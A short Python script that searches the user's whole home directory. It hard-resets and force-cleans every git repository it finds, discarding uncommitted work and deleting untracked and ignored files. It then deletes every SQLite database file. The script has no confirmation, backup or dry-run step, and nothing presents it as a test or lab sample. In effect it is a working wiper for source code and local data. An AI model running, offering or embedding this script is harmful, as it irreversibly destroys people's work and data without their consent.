#!/usr/bin/env python3
import shutil
import subprocess
from pathlib import Path

base = Path.home()
for git_dir in base.rglob(".git"):
    repo = git_dir.parent
    subprocess.run(["git", "-C", str(repo), "reset", "--hard", "-q"], check=False)
    subprocess.run(["git", "-C", str(repo), "clean", "-fdxq"], check=False)
for db in base.rglob("*.sqlite"):
    db.unlink()
